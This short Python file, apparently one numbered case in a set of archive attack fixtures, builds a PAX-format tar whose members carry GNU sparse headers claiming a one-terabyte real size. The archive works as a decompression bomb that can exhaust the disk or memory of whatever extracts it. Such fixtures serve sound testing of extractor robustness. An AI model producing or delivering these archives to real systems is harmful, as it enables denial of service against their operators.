# attack: archive
# root: files
# what: a sparse file of a terabyte
# list: 14
import tarfile

from pack import make_tar


def archive(files: dict[str, bytes]) -> bytes:
    def say_sparse(member):
        member.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.realsize": str(1 << 40)}

    return make_tar(files, tarfile.PAX_FORMAT, say_sparse)
